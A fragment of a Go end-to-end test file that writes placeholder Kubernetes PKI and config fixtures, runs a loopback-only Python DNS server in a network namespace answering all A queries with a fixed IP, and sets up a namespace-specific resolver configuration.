	if err := os.MkdirAll(filepath.Join(dir, "pki"), 0o700); err != nil {
		panic(err)
	}
	for name, text := range map[string]string{"pki/ca.key": "-----BEGIN RSA PRIVATE KEY-----\nnot a key\n-----END RSA PRIVATE KEY-----\n",
		"admin.conf": "apiVersion: v1\nkind: Config\n"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			panic(err)
		}
	}
	return dir
})

// tcpDNSServer runs a DNS server on 127.0.0.1:53/tcp inside network
// namespace ns that answers every A query with ip.
func tcpDNSServer(t *testing.T, ns, ip string) {
	t.Helper()
	srv := exec.Command("ip", "netns", "exec", ns, "python3", "-c", `
import socket, struct, sys
addr = socket.inet_aton(sys.argv[1])
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', 53))
s.listen(8)
print('listening', flush=True)
def read(c, n):
    b = b''
    while len(b) < n:
        chunk = c.recv(n - len(b))
        if not chunk:
            raise EOFError
        b += chunk
    return b
while True:
    c, _ = s.accept()
    try:
        while True:
            q = read(c, struct.unpack('!H', read(c, 2))[0])
            end = q.index(b'\0', 12) + 5
            question = q[12:end]
            qtype = struct.unpack('!H', question[-4:-2])[0]
            answers = b'\xc0\x0c' + struct.pack('!HHIH', 1, 1, 60, 4) + addr if qtype == 1 else b''
            msg = q[:2] + struct.pack('!HHHHH', 0x8180, 1, 1 if answers else 0, 0, 0) + question + answers
            c.sendall(struct.pack('!H', len(msg)) + msg)
    except (EOFError, ValueError, ConnectionError):
        c.close()
`, ip)
	out, err := srv.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Process.Kill(); srv.Wait() })
	if _, err := bufio.NewReader(out).ReadString('\n'); err != nil {
		t.Fatalf("TCP DNS server did not start: %v", err)
	}
}

func resolverNetns(t *testing.T, tag, options string) string {
	t.Helper()
	ns := fmt.Sprintf("vigil-e2e-%s-%d", tag, os.Getpid())
	mustRun(t, "", "ip", "netns", "add", ns)
	t.Cleanup(func() { run(t, "ip", "netns", "delete", ns); os.RemoveAll("/etc/netns/" + ns) })
	_ = os.MkdirAll("/etc/netns/"+ns, 0o755)
	writeFile(t, "/etc/netns/"+ns+"/resolv.conf", "nameserver 127.0.0.1\noptions "+options+"\n")
	mustRun(t, "", "ip", "-n", ns, "link", "set", "lo", "up")
	return ns
}
